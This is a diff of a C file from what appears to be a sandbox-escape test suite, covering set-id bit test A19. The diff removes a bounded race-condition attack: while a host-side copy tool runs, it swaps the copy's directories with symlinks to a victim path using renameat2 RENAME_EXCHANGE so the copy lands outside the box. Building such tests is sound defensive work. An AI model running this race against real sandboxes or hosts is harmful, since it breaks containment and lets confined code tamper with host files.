@@ -1,10 +1,8 @@
 /* attacks/modes.c - A19: set-id bits and privileged attributes on files that the host will see. */
 #include "attack.h"
 
-#include <dirent.h>
 #include <sys/mman.h>
 #include <sys/xattr.h>
-#include <time.h>
 
 /* ---- A19: set-id bits in a writable bind; the runner also looks at the host's side ---- */
 
@@ -128,54 +126,6 @@ int a19_copy_up(void)
     fflush(stdout);
     for (int i = 0; i < 60; i++) /* until px ends */
         sleep(1);
-    return DONE;
-}
-
-/* While px copies out of the box into a directory that the box can write, and gives up: directories of its own in the
- * copy become links that lead out of the box, as long as px takes them away. Bounded; ends when the runner says so. */
-enum { SWAPPED = 64, SWAP_SEC = 25 };
-
-static int find_copy(const char *top, char *out, size_t size)
-{
-    DIR *dir = opendir(top);
-    struct dirent *entry;
-    int found = 0;
-    while (dir && !found && (entry = readdir(dir)))
-        if (strncmp(entry->d_name, ".out.px-", 8) == 0)
-            found = snprintf(out, size, "%s/%s", top, entry->d_name) < (int)size;
-    if (dir)
-        closedir(dir);
-    return found;
-}
-
-static void swap_in(const char *copy, const char *links)
-{
-    char name[700], link[300];
-    for (int i = 0; i < SWAPPED; i++) {
-        snprintf(name, sizeof name, "%s/swap%d", copy, i);
-        snprintf(link, sizeof link, "%s/swap%d", links, i);
-        (void)unlink(link);
-        (void)rmdir(link);
-        (void)symlink(argument("A_VICTIM"), link);
-        (void)mkdir(name, 0700);
-    }
-    for (int i = 0; access(copy, F_OK) == 0 && i < SWAPPED * 2000; i++) {
-        snprintf(name, sizeof name, "%s/swap%d", copy, i % SWAPPED);
-        snprintf(link, sizeof link, "%s/swap%d", links, i % SWAPPED);
-        (void)syscall(SYS_renameat2, AT_FDCWD, name, AT_FDCWD, link, 2 /* RENAME_EXCHANGE */);
-    }
-}
-
-int a19_copy_swap(void)
-{
-    char copy[600];
-    const char *links = in(workspace(), "links"), *stop = in(workspace(), "stop");
-    time_t end = time(NULL) + SWAP_SEC;
-    if (mkdir(links, 0700) < 0)
-        return failed("cannot make %s: %s", links, strerror(errno));
-    while (access(stop, F_OK) < 0 && time(NULL) < end)
-        if (find_copy(workspace(), copy, sizeof copy))
-            swap_in(copy, links);
     return DONE;
 }
 
